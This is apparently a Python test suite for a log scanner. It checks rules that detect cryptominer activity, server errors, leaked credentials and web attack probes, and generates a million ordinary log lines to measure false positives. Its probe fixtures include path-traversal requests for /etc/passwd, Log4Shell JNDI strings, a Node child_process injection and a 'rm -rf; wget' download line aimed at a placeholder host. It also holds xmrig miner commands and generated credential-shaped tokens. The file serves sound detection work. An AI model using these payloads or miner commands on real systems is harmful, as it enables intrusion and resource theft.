#!/usr/bin/env python3
"""logs.miner, logs.error, logs.secret and logs.probe: lines that are one and lines that only look so, and a million lines of ordinary
output in which next to nothing is found. Secrets are put together here so that no scanner finds them in this file."""

import collections
import json
import os
import random
import string
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from pvtest import *  # noqa: E402,F403

PVLOGS = os.environ.get("PAVISE_LOGS_HELPER", os.path.join(REPO, "build", "meson", "test", "pvlogs"))
RULES = [os.path.join(REPO, "rules", "log"), os.path.join(REPO, "rules", "secret")]

MINER_YES = r"""
[2026-11-21 19:00:00.123]  net      use pool pool.example.org:3333  192.0.2.7
[2026-11-21 19:00:00.123]  net      new job from pool.example.org:3333 diff 480045 algo rx/0 height 3250000
[2026-11-21 19:00:00.123]  cpu      accepted (12/0) diff 480045 (45 ms)
[2026-11-21 19:00:00.123]  miner    speed 10s/60s/15m 4321.0 4300.1 n/a H/s max 4400.0 H/s
[2026-11-21 19:00:00.123]  cpu      READY threads 8/8 (8) huge pages 100% 8/8 memory 16384 KB (12 ms)
[2026-11-21 19:00:00.123]  randomx  init dataset algo rx/0 (8 threads) seed 1f2e3d4c...
[2026-11-21 19:00:00.123]  randomx  dataset ready (2345 ms)
[2026-11-21 19:00:00.123]  randomx  allocated 2336 MB (2080+256) huge pages 0% 0/1168 +JIT (123 ms)
 * ABOUT        XMRig/6.21.0 gcc/11.4.0
./xmrig -o pool.example.org:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
sh -c ./x --donate-level 1 -o stratum+tcp://pool.example.org:3333
url=stratum+ssl://xmr.example.org:443
connecting to STRATUM+TCP://pool.example.org:4444
stratum2+tcp://pool.example.org:3333 connected
proxy: stratum1+tcp://0xabc.worker@eth.example.org:4444
send: {"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}
recv: {"id":null,"method":"mining.notify","params":["1","ab"]}
{"id":2,"jsonrpc":"2.0","method":"mining.authorize","params":["x","y"]}
{"worker":"w","method":"eth_submitLogin","params":["0x1"]}
cpuminer 2.5.1 by pooler
exec /usr/bin/minerd -a cryptonight
exec: /tmp/.X11-unix/kdevtmpfsi
/var/tmp/kinsing started
GPU0: ethminer 0.19.0
nbminer v42.3 starting
lolMiner 1.88 is starting
SRBMiner-MULTI 2.4.1
t-rex miner v0.26.8
connect: gulf.moneroocean.stream:10128
connect to xmr-eu1.nanopool.org:14444
Total Speed: 31.20 MH/s
hashrate: 4321.5 H/s
cpu use profile rx (8 threads) scratchpad 2048 KB
algo: cryptonight-lite
"donate-level": 1,
nonce found 0x1f2e
"""

MINER_NO = r"""
determining the best route
data mining job finished in 12 s
examining 12 files
the Stratum layer was dug up
stratum: 3 server selected by ntpd
ntpd: stratum 2, offset 0.001
chronyd: Selected source 192.0.2.7 (stratum 2)
process mining report created
GET /blog/what-is-xmrig-and-how-to-remove-it HTTP/1.1
user xmrigfan logged in
a talk about undermining trust
the miner's daughter, chapter 3
text mining pipeline ready
mining.example.org is a web site
mining town of Kiruna
gold mining shares accepted (12%)
GET /articles/bitcoin-mining HTTP/1.1" 200
GET /monero.html HTTP/1.1" 200
GET /xmrig.html HTTP/1.1" 200
https://www.nicehash.com/blog/post
see https://xmrig.com/docs for details
speed 120 MB/s
speed: 12.5 MiB/s eta 3s
rate 31.2 Mb/s
12 kHz sampling
order accepted (12/0)
connection accepted (1/0)
new job from queue default
new job from cron
job ready threads 4
READY to accept connections
thread pool ready
use pool of workers
use pool: default
connection pool size 10
pool.query took 12 ms
Pool: 10 connections
donate-level is no option of ours
minerds are creatures of a game
the randomx factor
random x and y
rx packets 0 tx packets 0
rx/tx errors: 0
eth0: rx/s 120
cn/rdn are attributes of LDAP
cn=admin,dc=example,dc=org
hash rate limiting is on
hashing rate of bcrypt: 12 rounds
hash: 4321 H
nonce checked
nonce not found in cache
invalid nonce for script-src
"method":"notify"
"method":"subscribe","channel":"prices"
data.mining.notify() is deprecated
{"method":"eth_getBlockByNumber","params":["latest",false]}
{"method":"eth_blockNumber"}
wallet: order 44AFF paid
ccminerals shop
cgminer-docs.md was read
cpu time 12 s total
threads 8/8 idle
difficulty: hard
algorithm: aes-256-gcm
"""

ERROR_YES = r"""
2026/11/21 19:00:00 [error] 1#1: *7 open() "/x" failed (2: No such file or directory), client: 192.0.2.7
2026/11/21 19:00:00 [crit] 1#1: *7 SSL_do_handshake() failed
2026/11/21 19:00:00 [emerg] 1#1: bind() to 0.0.0.0:80 failed (98: Address already in use)
2026/11/21 19:00:00 [alert] 1#1: worker process 7 exited on signal 11
[Sat Nov 21 19:00:00.123456 2026] [core:error] [pid 7:tid 8] AH00037: Symbolic link not allowed
[Sat Nov 21 19:00:00.123456 2026] [proxy:crit] [pid 7] no backend
2026-11-21 19:00:00.123 UTC [7] ERROR:  relation "x" does not exist at character 15
2026-11-21 19:00:00.123 UTC [7] FATAL:  the database system is starting up
2026-11-21 19:00:00.123 UTC [7] PANIC:  could not write to file "pg_wal/x"
2026-11-21 19:00:00 0 [ERROR] mariadbd: Table './shop/orders' is marked as crashed
ERROR:    Exception in ASGI application
Traceback (most recent call last):
 ⨯ TypeError: Cannot read properties of undefined (reading 'id')
TypeError: fetch failed
ReferenceError: x is not defined
Error: connect ECONNREFUSED 127.0.0.1:5432
Error: listen EADDRINUSE: address already in use :::3000
UnhandledPromiseRejectionWarning: Error: x
Unhandled Rejection at: Promise
Uncaught Exception: x
Uncaught TypeError: x is not a function
thread 'main' panicked at src/main.rs:7:5
panic: runtime error: index out of range [5] with length 3
time="2026-11-21T19:00:00Z" level=error msg="failed to start daemon"
time="2026-11-21T19:00:00Z" level=fatal msg="cannot open"
{"level":"error","ts":1795287600.5,"msg":"x"}
{"level":50,"time":1795287600000,"msg":"x"}
{"severity":"ERROR","message":"x"}
{"t":{"$date":"2026-11-21T19:00:00Z"},"s":"E","c":"NETWORK","msg":"x"}
kernel: app[7]: segfault at 0 ip 00007f0000000000 sp 00007f0000000000 error 4 in libc.so.6
kernel: Out of memory: Killed process 812 (node) total-vm:1234kB
kernel: blk_update_request: I/O error, dev sda, sector 12345
Nov 21 19:00:00 web1 systemd[1]: Failed to start nginx.service - A high performance web server.
Nov 21 19:00:00 web1 systemd[1]: nginx.service: Main process exited, code=exited, status=1/FAILURE
Nov 21 19:00:00 web1 systemd[1]: nginx.service: Failed with result 'exit-code'.
PHP Fatal error:  Uncaught Error: Call to undefined function x() in /srv/x.php:7
[2026-11-21 19:00:00 +0000] [7] [CRITICAL] WORKER TIMEOUT (pid:9)
npm ERR! code ELIFECYCLE
write: No space left on device
2026-11-21T19:00:00Z ERROR app::db: pool is closed
"""

ERROR_NO = r"""
{"error":null,"data":[]}
{"error": null, "ok": true}
{"level":"info","error":"","msg":"done"}
{"level":30,"time":1795287600000,"msg":"x","err":null}
0 errors
0 errors, 2 warnings
Found 0 errors. Watching for file changes.
compiled with no errors
errors: 0
error_count=0
error=<nil>
level=info msg="request done" error=<nil>
time="2026-11-21T19:00:00Z" level=info msg="API listen on /run/docker.sock"
time="2026-11-21T19:00:00Z" level=warning msg="no error log"
GET /error HTTP/1.1" 200
GET /errors/404.html HTTP/1.1" 200
GET /ERROR HTTP/1.1" 200
"GET /api/errors?level=error HTTP/1.1" 200 5
"POST /log?message=[error] HTTP/1.1" 204 0
error.html was rendered
errorHandler registered
ErrorBoundary mounted
failed over to replica 2 and back
failedLogins: 0
0 failed
0 failed, 12 passed
Tests: 12 passed, 0 failed
failed=0 ok=12 changed=3
last_failed: never
INFO: error reporting is on
INFO:     Application startup complete.
INFO:     192.0.2.7:51234 - "GET /errors HTTP/1.1" 200 OK
LOG_LEVEL=ERROR
log level is ERROR
ERROR_LIMIT is 5
SET log_min_messages TO ERROR
log_min_error_statement = error
2026/11/21 19:00:00 [notice] 1#1: start worker processes
2026/11/21 19:00:00 [info] 1#1: *7 client closed connection
[Sat Nov 21 19:00:00.123456 2026] [mpm_event:notice] [pid 7:tid 8] AH00489: Apache/2.4.57 configured
2026-11-21 19:00:00.123 UTC [7] LOG:  checkpoint complete: wrote 3 buffers
2026-11-21 19:00:00.123 UTC [7] WARNING:  there is no transaction in progress
2026-11-21 19:00:00 0 [Note] mariadbd: ready for connections.
2026-11-21 19:00:00 0 [Warning] Access was allowed
Nov 21 19:00:00 web1 systemd[1]: Started nginx.service - A high performance web server.
Nov 21 19:00:00 web1 systemd[1]: x.service: Main process exited, code=exited, status=0/SUCCESS
Nov 21 19:00:00 web1 systemd[1]: x.service: Main process exited, code=killed, status=15/TERM
kernel: EXT4-fs (sda1): mounted filesystem with ordered data mode. Opts: errors=remount-ro
kernel: RAS: Correctable Errors collector initialized.
kernel: ACPI: 0 ACPI AML tables failed
kernel: pcieport 0000:00:1c.0: AER: enabled with IRQ 24
dpkg: status installed liberror-perl:all 0.17029-2
Setting up libgpg-error0:amd64 (1.46-1) ...
Unpacking libgpg-error-l10n (1.46-1) over (1.45-2) ...
npm WARN deprecated error-ex@1.0.0
 ✓ Compiled /error in 120ms
 GET /error 200 in 12ms
the panic button was pressed
panic mode is off
retry after error: none
critical path: 12 ms
criticality: low
fatal=false
severity: low
errno 0
EOF is no error
trace: see Traceback docs
"exception": false
docs/TypeError: how to avoid it
segfaults were not seen
"""

PROBE_YES = r"""
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.env HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /api/.env HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.env.local HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.env?x=1 HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "HEAD /.git/HEAD HTTP/1.1" 404 0 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.git/config HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /app/.git/index HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.svn/entries HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.aws/credentials HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.ssh/id_rsa HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.DS_Store HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.vscode/sftp.json HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.htpasswd HTTP/1.1" 403 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /wp-config.php.bak HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /wp-config.php~ HTTP/1.1" 404 58 "-" "x"
INFO:     192.0.2.7:51111 - "GET /.env HTTP/1.1" 404 Not Found
INFO:     192.0.2.7:51111 - "GET /.git/config HTTP/1.1" 404 Not Found
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /static/../../../../etc/passwd HTTP/1.1" 400 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /cgi-bin/.%2e/.%2e/.%2e/bin/id HTTP/1.1" 400 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1" 400 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /download?file=../../../../etc/shadow HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /?page=/etc/passwd HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /x?f=..\..\..\windows\win.ini HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /proc/self/environ HTTP/1.1" 404 58 "-" "x"
body: {"then":"$1:__proto__:then","status":"resolved_model","value":"{}"}
x: process.mainModule.require('child_process').execSync('id')
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://203.0.113.9/a}"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /?x=${${lower:j}ndi:ldap://203.0.113.9/a} HTTP/1.1" 200 5 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/a HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /index.php?s=/index/think/app/invokefunction&function=call_user_func_array HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "POST /boaform/admin/formLogin HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /actuator/env HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /actuator/heapdump HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 400 58 "-" "x"
"""

PROBE_NO = r"""
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET / HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /env HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /environment HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /docs/dotenv HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.well-known/acme-challenge/x HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /.well-known/security.txt HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /shop.git/info/refs?service=git-upload-pack HTTP/1.1" 200 58 "-" "git/2.39"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "POST /shop.git/git-upload-pack HTTP/1.1" 200 58 "-" "git/2.39"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /git/ HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /blog/why-.env-files HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /docs/ HTTP/1.1" 200 58 "https://example.org/.env" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /a/../b HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /etc/ HTTP/1.1" 404 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /wiki/etcetera HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /passwd-policy HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /windows/win.initial HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /curl-tutorial HTTP/1.1" 200 58 "-" "curl/7.88"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /?q=wget+tutorial HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /shell HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /actuator/health HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /manager HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /vendor/logo.png HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /_next/static/chunks/app/page-1f2e.js HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /v1..v2 HTTP/1.1" 200 58 "-" "x"
192.0.2.7 - - [21/Nov/2026:19:00:00 +0000] "GET /search?q=.. HTTP/1.1" 200 58 "-" "x"
INFO:     192.0.2.7:51111 - "GET /environments HTTP/1.1" 200 OK
INFO:     192.0.2.7:51111 - "POST /graphql HTTP/1.1" 200 OK
loaded settings from /srv/app/.env
- Environments: .env.local, .env
reading /srv/app/.git/config
fatal: not a git repository (or any of the parent directories): .git
git -C /srv/app/.git/ gc
webpack: ../../src/index.js 12 KiB
import x from '../../lib/x'
Module not found: Can't resolve '../../components/x'
at Object.<anonymous> (/srv/app/../lib/x.js:7:5)
include /etc/nginx/../nginx/mime.types
cp: '/etc/passwd' -> '/var/backups/passwd.bak'
CMD (/bin/sh /etc/cron.daily/apt-compat)
ExecStart=/bin/sh -c 'exec app'
run-parts: /bin/sh exited 0
spawned child_process 812
import { exec } from "child_process"
node:child_process is used by sharp
Error: NEXT_REDIRECT
digest: '1234567890'
{"digest":"NEXT_NOT_FOUND"}
{"status":"resolved"}
const x = `${name}`
template: ${user.name}
echo ${PATH}
${HOME}/.cache
jndi lookup is off
log4j: jndi is disabled
the .git folder is left out
.env is in .gitignore
__proto__ was frozen
Object.prototype.__proto__
hudson river
luci is short for Lucinda
setup.cgi is gone
cmd.exe is no program here
"GET" is a method
"""


def secret(prefix, n, seed, alphabet=string.ascii_letters + string.digits):
    r = random.Random(seed)
    return prefix + "".join(r.choice(alphabet) for _ in range(n))


def secrets_yes():
    """Tokens of documented formats in the places where programs log them."""
    hexa = "0123456789abcdef"
    forms = ["Authorization: Bearer {}", "token={}", '{{"level":"info","token":"{}"}}', "GET /hook?key={} HTTP/1.1", "using {} for the request"]
    tokens = [secret("gl" + "pat-", 20, 1), secret("xo" + "xb-123456789012-123456789012-", 24, 2), secret("sk" + "_live_", 24, 3),
              secret("AK" + "IA", 16, 4, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"), secret("np" + "m_", 36, 5), secret("dop" + "_v1_", 64, 6, hexa),
              secret("SG" + ".", 22, 7) + "." + secret("", 43, 8), secret("AI" + "za", 35, 9)]
    lines = [forms[i % len(forms)].format(t) for i, t in enumerate(tokens)] + [forms[(i + 2) % len(forms)].format(t) for i, t in enumerate(tokens)]
    pw = "h0rse-7Qbatz4-" + "kL9w"
    for scheme in ("postgres" + "ql", "my" + "sql", "mongo" + "db", "red" + "is", "am" + "qp"):
        lines.append(f"connecting to {scheme}://ada:{pw}@db.internal:5432/shop")
        lines.append(f'{{"level":"error","msg":"cannot connect","url":"{scheme}://ada:{pw}@db.internal/shop"}}')
    lines += ["-----BEGIN " + "RSA PRIVATE KEY-----\\n" + secret("MIIE", 600, 10) + "\\n-----END RSA " + "PRIVATE KEY-----",
              "DB_PASSWORD=" + secret("", 24, 11), "export API_KEY=" + secret("", 40, 12), "client_secret: " + secret("", 40, 13),
              'password="' + secret("", 20, 14) + '"']
    return lines


SECRETS_NO = r"""
Authorization: Bearer eyJhbGciOi…
Authorization: Bearer ***
token=glpat-abcd…
token: ghp_ab12… (len 40)
token=glpat-1a2b3c
using key AKIA1234…
password: ********
password=[REDACTED]
password=<hidden>
password: (len 20)
DB_PASSWORD=${DB_PASSWORD}
API_KEY=$API_KEY
api_key=xxxxxxxxxxxxxxxxxxxxxxxx
secret: your-secret-here
client_secret: changeme
token=null
token: undefined
token is expired
token expired at 2026-11-21T19:00:00Z
invalid token
csrf token mismatch
password authentication failed for user "ada"
Failed password for root from 192.0.2.7 port 51111 ssh2
Accepted publickey for git from 192.0.2.7 port 51111 ssh2: ED25519 SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8
password reset mail sent to ada@example.org
password must have 12 characters
access_token received (40 characters)
session 1f2e3d4c started
request id 4f1c2a3b-7d8e-4f90-a1b2-c3d4e5f60718
trace_id=4bf92f3577b34da6a3ce929d0e0e4736 span_id=00f067aa0ba902b7
commit 3b18e512dba79e4c8300dd08aeb37f8e728b8dad
image sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
container 4f1c2a3b7d8e4f90a1b2c3d4e5f607184f1c2a3b7d8e4f90a1b2c3d4e5f60718 started
etag: "33a64df551425fcc55e4d42a148795d9f25f89d4"
integrity sha512-abcdefgh
md5 d41d8cd98f00b204e9800998ecf8427e
uuid=550e8400-e29b-41d4-a716-446655440000
GET /_next/static/chunks/4bd1b696-67ca12fb0a3d1b9b.js HTTP/1.1" 200
GET /assets/app.1f2e3d4c5b6a79881f2e3d4c.css HTTP/1.1" 200
postgresql://ada:***@db.internal:5432/shop
postgresql://db.internal:5432/shop
mysql://ada@db.internal/shop
redis://cache:6379/0
amqp://mq:5672
https://user@example.org/
https://example.org:8443/path@2
mongodb://db1:27017,db2:27017/shop
connect to tcp://192.0.2.7:2375
ssh-rsa AAAAB3NzaC1yc2E… ada@host
-----BEGIN PUBLIC KEY-----
-----BEGIN CERTIFICATE-----
key: Home
key=value
primary key (id)
foreign key constraint fails
keyframes loaded
keyboard-interactive
api key header is missing
auth: ok
authenticated as ada
secret santa list
secretary@example.org
2026-11-21 19:00:00.123 UTC [7] LOG:  checkpoint complete: wrote 3 buffers
INFO:     192.0.2.7:51111 - "POST /token HTTP/1.1" 200 OK
passwords are hashed with argon2id
basic auth is on
"""


def found(lines, kind="file"):
    """For each line the ids that were found."""
    r = subprocess.run([PVLOGS, *RULES, "--", "-", kind], input="".join(line + "\n" for line in lines).encode(), capture_output=True, check=False)
    if r.returncode:
        raise RuntimeError(r.stderr.decode())
    out = collections.defaultdict(set)
    for line in r.stdout.decode("utf-8", "replace").splitlines():
        f = line.split(" ")
        out[int(f[5])].add(f[0])
    return [out.get(i + 1, set()) for i in range(len(lines))]


def lines_of(text):
    return [line for line in text.strip("\n").split("\n") if line]


def judge(tap, ident, yes, no):
    missed = [line for line, ids in zip(yes, found(yes)) if ident not in ids]
    wrong = [line for line, ids in zip(no, found(no)) if ident in ids]
    tap.ok(len(yes) >= 30 and not missed, f"{ident}: all of {len(yes)} lines are found", "\n".join(missed))
    tap.ok(len(no) >= 60 and not wrong, f"{ident}: none of {len(no)} lines that look alike is found", "\n".join(wrong))
    docker = [json.dumps({"log": line + "\n", "stream": "stdout", "time": "2026-11-21T19:00:00.123456789Z"}) for line in yes]
    missed = [line for line, ids in zip(yes, found(docker, "docker")) if ident not in ids]
    tap.ok(not missed, f"{ident}: the same through Docker's json-file", "\n".join(missed))


def test_miner(tap):
    judge(tap, "logs.miner", lines_of(MINER_YES), lines_of(MINER_NO))


def test_error(tap):
    judge(tap, "logs.error", lines_of(ERROR_YES), lines_of(ERROR_NO))


def test_probe(tap):
    judge(tap, "logs.probe", lines_of(PROBE_YES), lines_of(PROBE_NO))


def test_secret(tap):
    judge(tap, "logs.secret", secrets_yes(), lines_of(SECRETS_NO))


def ordinary(n):
    """Lines as the programs write them on a quiet day: nginx, PostgreSQL, a Next.js and a uvicorn application, kernel, dockerd, apt."""
    r = random.Random(7)
    hexa = "0123456789abcdef"
    paths = ["/", "/assets/app.1f2e3d4c.js", "/api/v1/items?page=3&sort=-created", "/images/logo.png", "/products/blue-chair-42", "/robots.txt",
             "/api/v1/orders/1234", "/_next/static/chunks/4bd1b696-67ca12fb0a3d1b9b.js", "/search?q=error+handling", "/blog/data-mining-with-python"]
    for i in range(n):
        kind, ip, ms = r.randrange(14), f"192.0.2.{r.randrange(256)}", r.randrange(1, 900)
        t = f"{r.randrange(24):02}:{r.randrange(60):02}:{r.randrange(60):02}"
        path = r.choice(paths)
        if kind < 4:
            yield (f'{ip} - - [21/Nov/2026:{t} +0000] "GET {path} HTTP/1.1" {r.choice([200, 200, 304, 301, 404])} {r.randrange(99999)} '
                   f'"https://shop.example.org{path}" "Mozilla/5.0 (X11; Linux x86_64; rv:{r.randrange(90, 140)}.0) Gecko/20100101 Firefox/120.0"')
        elif kind < 6:
            yield f"2026-11-21 {t}.{ms:03} UTC [{r.randrange(99999)}] LOG:  " + r.choice([
                f"checkpoint starting: time", f"checkpoint complete: wrote {ms} buffers (0.1%); 0 WAL file(s) added, 0 removed, 1 recycled; write=3.114 s, "
                "sync=0.003 s, total=3.120 s; sync files=12, longest=0.002 s, average=0.001 s; distance=178 kB, estimate=200 kB",
                f"duration: {ms}.123 ms  statement: SELECT id, error_count FROM jobs WHERE failed = false AND key = 'a{i}'",
                f"connection received: host={ip} port={r.randrange(1024, 65535)}", "connection authorized: user=shop database=shop application_name=web"])
        elif kind < 8:
            yield r.choice([f" GET {path} 200 in {ms}ms", f" ✓ Compiled {path} in {ms}ms ({r.randrange(900)} modules)", f" POST /api/cart 200 in {ms}ms",
                            "   ▲ Next.js 15.0.3", " ✓ Ready in 1234ms", f"   - Local:        http://localhost:3000", f" ○ Compiling {path} ..."])
        elif kind < 10:
            yield r.choice([f'INFO:     {ip}:{r.randrange(1024, 65535)} - "GET {path} HTTP/1.1" 200 OK',
                            f'INFO:     {ip}:{r.randrange(1024, 65535)} - "POST /items HTTP/1.1" 201 Created', "INFO:     Application startup complete.",
                            f"INFO:     Started server process [{r.randrange(9999)}]", "INFO:     Waiting for application startup.",
                            f"INFO:     Uvicorn running on http://0.0.0.0:8000 (Press CTRL+C to quit)"])
        elif kind < 11:
            yield f"Nov 21 {t} web1 kernel: [{r.randrange(99999)}.{r.randrange(999999):06}] " + r.choice([
                "br-1f2e3d4c5b6a: port 1(veth12ab34c) entered forwarding state", "IPv6: ADDRCONF(NETDEV_CHANGE): veth12ab34c: link becomes ready",
                "EXT4-fs (sda1): re-mounted. Opts: errors=remount-ro. Quota mode: none.", "audit: type=1400 apparmor=\"STATUS\" operation=\"profile_load\"",
                "usb 1-1: new high-speed USB device number 2 using xhci_hcd", "perf: interrupt took too long (2503 > 2500), lowering rate",
                f"[UFW BLOCK] IN=eth0 OUT= SRC={ip} DST=192.0.2.1 LEN=40 PROTO=TCP SPT=4444 DPT=23 WINDOW=1024 RES=0x00 SYN URGP=0"])
        elif kind < 12:
            h = "".join(r.choice(hexa) for _ in range(64))
            yield f'time="2026-11-21T{t}.123456789Z" level=info msg="' + r.choice([
                f'ignoring event" container={h} module=libcontainerd namespace=moby topic=/tasks/delete type="*events.TaskDelete"',
                f'shim disconnected" id={h} namespace=moby', 'API listen on /run/docker.sock"', f'loading plugin \\"io.containerd.snapshotter.v1.overlayfs\\"..." type=io.containerd',
                f'Layer sha256:{h} cleaned up"', f'stopping healthcheck" container={h}'])
        elif kind < 13:
            yield r.choice([f"Setting up libgpg-error0:amd64 (1.46-{r.randrange(9)}) ...", f"Unpacking libssl3:amd64 (3.0.{r.randrange(20)}-1~deb12u1) over (3.0.9-1) ...",
                            "Get:1 http://mirror.example.org/debian bookworm/main amd64 Packages [8786 kB]", "Reading package lists...", "Building dependency tree...",
                            f"0 upgraded, 0 newly installed, 0 to remove and {r.randrange(30)} not upgraded.", "Processing triggers for man-db (2.11.2-2) ...",
                            f"2026-11-21 {t} status installed liberror-perl:all 0.17029-2", "Fetched 12.3 MB in 1s (9,876 kB/s)"])
        else:
            yield f"Nov 21 {t} web1 " + r.choice([f"CRON[{r.randrange(99999)}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
                                                  "systemd[1]: Started session-12.scope - Session 12 of User ada.", "systemd[1]: apt-daily.service: Deactivated successfully.",
                                                  f"sshd[{r.randrange(99999)}]: Accepted publickey for git from {ip} port 51234 ssh2: ED25519 SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8"])


def test_ordinary(tap):
    with open("/dev/shm/pvlogs-ordinary.%d" % os.getpid(), "w+") as f:
        os.unlink(f.name)
        for line in ordinary(1000000):
            f.write(line + "\n")
        f.flush()
        f.seek(0)
        r = subprocess.run([PVLOGS, *RULES, "--", "-", "file"], stdin=f, capture_output=True, check=True)
    seen = collections.Counter()
    samples = collections.defaultdict(list)
    for line in r.stdout.decode("utf-8", "replace").splitlines():
        f = line.split(" ")
        if f[1] in ("neutral", "accepted"):
            continue
        seen[f[0]] += 1
        samples[f[0]].append(line)
    for ident in ("logs.miner", "logs.error", "logs.secret", "logs.probe", "logs.auth-failure"):
        tap.ok(seen[ident] <= 5, f"at most 5 times {ident} in a million ordinary lines ({seen[ident]})", "\n".join(samples[ident][:20]))


if __name__ == "__main__":
    main(test_miner, test_error, test_probe, test_secret, test_ordinary)
